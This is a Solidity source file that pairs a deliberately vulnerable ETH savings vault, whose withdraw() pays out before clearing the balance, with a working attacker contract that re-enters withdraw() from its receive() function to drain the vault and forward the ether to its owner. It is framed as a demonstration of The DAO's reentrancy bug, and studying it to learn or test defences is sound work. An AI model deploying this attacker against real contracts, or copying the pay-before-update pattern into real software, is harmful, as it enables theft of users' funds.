// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

// reentrancy-drain: an ETH savings vault with The DAO's bug, and the contract that empties it.

/// Models a simple ETH vault: people deposit, and each may withdraw what they put in.
/// VULNERABLE: withdraw() sends the ether before it clears the balance (see the BUG line), so a contract
/// receiving the payment can call withdraw() again and be paid its unchanged balance once per nested call.
contract ReentrantVault {
    mapping(address => uint256) public balances;

    event Deposited(address indexed account, uint256 amount);
    event Withdrawn(address indexed account, uint256 amount);

    function deposit() external payable {
        balances[msg.sender] += msg.value;
        emit Deposited(msg.sender, msg.value);
    }

    function withdraw() external {
        uint256 amount = balances[msg.sender];
        require(amount > 0, "ReentrantVault: nothing to withdraw");
        (bool ok,) = msg.sender.call{value: amount}(""); // BUG: interaction before effect
        require(ok, "ReentrantVault: transfer failed");
        balances[msg.sender] = 0;
        emit Withdrawn(msg.sender, amount);
    }
}

/// The attack contract: deposits a small stake, withdraws it, and from receive() withdraws the same stake
/// again for as long as the vault still holds that much. The profit stays here until collect().
contract ReentrancyAttacker {
    ReentrantVault public immutable vault;
    address public immutable owner;
    uint256 private stake;

    constructor(ReentrantVault vault_) {
        vault = vault_;
        owner = msg.sender;
    }

    function attack() external payable {
        require(msg.sender == owner, "not owner");
        stake = msg.value;
        vault.deposit{value: msg.value}();
        vault.withdraw();
    }

    receive() external payable {
        if (msg.sender == address(vault) && address(vault).balance >= stake) {
            vault.withdraw();
        }
    }

    function collect() external {
        require(msg.sender == owner, "not owner");
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok, "collect failed");
    }
}
